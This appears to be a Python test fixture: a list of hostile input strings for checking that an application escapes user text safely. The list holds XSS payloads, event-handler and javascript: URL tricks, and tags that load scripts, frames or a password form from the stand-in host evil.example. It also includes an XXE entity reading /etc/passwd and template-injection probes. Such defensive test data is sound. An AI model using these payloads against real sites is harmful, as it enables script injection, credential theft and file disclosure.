"""Text an attacker might type into any field: markup, scripts, addresses, entities, controls.

Each must reach readers as the literal text it is, wherever plain text is expected, and as
nothing live wherever HTML is.
"""

HOSTILE = [
    # Scripts and event handlers.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<svg onload=alert(1)>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    # Addresses that run code.
    '<a href="javascript:alert(1)">click</a>',
    '<a href="jAvAsCrIpT:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">click</a>',
    '<a href="java&#x09;script:alert(1)">click</a>',
    '<a href=" javascript:alert(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    # Elements that take over the page or reach elsewhere.
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<iframe src="https://evil.example/"></iframe>',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<form action="https://evil.example/"><input name="password"></form>',
    # Breaking out of attributes, elements and XML.
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<?xml-stylesheet href="https://evil.example/x.xsl"?>',
    '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>&xxe;',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    # Text that looks escaped already, or holds entities: it must read back as typed.
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&ltscript&gt alert(1) &amp &copy 2026 &notit; Q&A",
    # Control characters, templates, other scripts.
    "Form\x0cfeed, escape\x1b[31m and bell\x07 pasted in",
    "{{ 7*7 }} {% debug %} ${7*7}",
    "Ünïcödé — 日本語 — ‮reversed — 🙂",
]
